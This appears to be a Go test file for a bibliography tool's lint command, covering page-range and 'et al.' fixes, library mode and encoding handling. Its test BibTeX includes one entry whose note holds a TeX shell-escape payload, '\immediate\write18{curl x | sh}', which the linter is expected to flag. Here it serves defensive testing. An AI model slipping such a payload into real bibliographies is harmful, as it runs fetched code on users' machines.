package main

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bibshelf/bibshelf/storage"
)

// lintBib is entries from the corpus (biber-etc/etc/papers.bib's LawlerS85, with a page range
// of AardalHLT02's) and a note made for the test that runs a shell command.
const lintBib = `% refs
@inproceedings{LawlerS85,
author = {Eugene L. Lawler and P. J. Slater},
title = {A Linear Time Algorithm for Finding an Optimal Dominating Subforest of a Tree},
booktitle = {Proc. Graph Theory and its Applications to Algorithms and Computer Science},
pages = {501-506},
editor = {Y. Alavi et al.},
year = 1985
}

@misc{evil, title = {Harmless}, note = {\immediate\write18{curl x | sh}}}
`

func TestLint(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "refs.bib")
	if err := os.WriteFile(path, []byte(lintBib), 0o644); err != nil {
		t.Fatal(err)
	}
	st, out, errOut := bibshelf(t, "", "lint", path)
	want := path + ":6:13: warning: LawlerS85: pages \"501-506\": a page range takes -- (an en dash), not - (pages)\n" +
		path + ":7:20: warning: LawlerS85: editor: \"et al.\" is read as a name: write \"and others\" (et-al)\n" +
		path + ":11:41: error: evil: note: \\immediate writes to a file, or as \\write18 runs a shell command when shell escape is on (dangerous-tex)\n" +
		path + ":11:51: error: evil: note: \\write18 runs a shell command when shell escape is on (dangerous-tex)\n"
	if st != exitRejected || out != want || errOut != "" {
		t.Errorf("lint = %d\n%s%s\nwant 1\n%s", st, out, errOut, want)
	}

	st, out, _ = bibshelf(t, "", "lint", "--json", "--fix", path)
	var fixed []string
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var f struct {
			Check, Severity, Fix string
			Fixed                bool
			Line                 int
		}
		if err := json.Unmarshal([]byte(line), &f); err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if f.Fixed {
			fixed = append(fixed, f.Check+" "+f.Fix)
		}
	}
	if st != exitRejected || strings.Join(fixed, ", ") != "pages {501--506}, et-al {Y. Alavi and others}" {
		t.Errorf("lint --json --fix = %d %v\n%s", st, fixed, out)
	}
	got, _ := os.ReadFile(path)
	wantText := strings.Replace(strings.Replace(lintBib, "{501-506}", "{501--506}", 1), "Alavi et al.", "Alavi and others", 1)
	if string(got) != wantText {
		t.Errorf("the fixed file:\n%s\nwant\n%s", got, wantText)
	}

	// Nothing left to fix: the file is not written again, and warnings alone exit 0.
	clean := filepath.Join(dir, "clean.bib")
	cleanText := strings.Replace(wantText, "\\immediate\\write18{curl x | sh}", "n", 1)
	if err := os.WriteFile(clean, []byte(cleanText), 0o444); err != nil {
		t.Fatal(err)
	}
	if st, out, errOut := bibshelf(t, "", "lint", "--fix", clean); st != exitOK || out != "" || errOut != "" {
		t.Errorf("lint --fix of a clean file = %d %q %q", st, out, errOut)
	}
	if got, _ := os.ReadFile(clean); string(got) != cleanText {
		t.Error("a file with nothing to fix changed")
	}

	for _, args := range [][]string{{"lint", "--nosuch"}, {"lint", "--query", "x", path}, {"lint", "--library", "l.sqlite", path}} {
		if st, _, _ := bibshelf(t, "", args...); st != exitUsage {
			t.Errorf("%v = %d, want %d", args, st, exitUsage)
		}
	}
	if st, _, errOut := bibshelf(t, "", "lint", filepath.Join(dir, "none.bib")); st != exitRejected || !strings.Contains(errOut, "none.bib") {
		t.Errorf("lint of a missing file = %d %q", st, errOut)
	}
}

func TestLintLibrary(t *testing.T) {
	lib := filepath.Join(t.TempDir(), "lib.sqlite")
	if st, _, errOut := bibshelf(t, lintBib, "import", "--library", lib, "-"); st != 0 {
		t.Fatal(errOut)
	}
	st, out, _ := bibshelf(t, "", "lint", "--library", lib, "--query", "lawler")
	if st != exitOK || out != "warning: LawlerS85: pages \"501-506\": a page range takes -- (an en dash), not - (pages)\n"+
		"warning: LawlerS85: editor: \"et al.\" is read as a name: write \"and others\" (et-al)\n" {
		t.Errorf("lint --library --query = %d\n%s", st, out)
	}
	t.Setenv("BIBSHELF_LIBRARY", lib)
	st, out, _ = bibshelf(t, "", "lint", "--fix", "--library")
	if st != exitRejected || strings.Count(out, "fixed: LawlerS85: ") != 2 || !strings.Contains(out, "error: evil: note:") {
		t.Errorf("lint --fix --library = %d\n%s", st, out)
	}
	l, err := storage.OpenExisting(context.Background(), lib)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	e, err := l.Entry(context.Background(), "LawlerS85")
	if err != nil {
		t.Fatal(err)
	}
	if e.Get("pages") != "501--506" || e.Get("editor") != "Y. Alavi and others" || !strings.Contains(e.Source, "booktitle = {Proc. Graph Theory") {
		t.Errorf("the fixed entry: %q %q\n%s", e.Get("pages"), e.Get("editor"), e.Source)
	}
}

// TestLintFixLatin1 lints a file in Windows-1252 with --fix: its findings are printed, and it is
// not rewritten, which would change its encoding.
func TestLintFixLatin1(t *testing.T) {
	path := filepath.Join(t.TempDir(), "latin.bib")
	src := "@misc{a, title = {Caf\xe9}, pages = {1-2}}\n"
	if err := os.WriteFile(path, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	st, out, errOut := bibshelf(t, "", "lint", "--fix", path)
	if st != exitRejected || !strings.Contains(out, "(pages)") || !strings.Contains(errOut, "not UTF-8") {
		t.Errorf("lint --fix of Windows-1252 = %d %q %q", st, out, errOut)
	}
	if got, _ := os.ReadFile(path); string(got) != src {
		t.Error("the file was rewritten")
	}
}
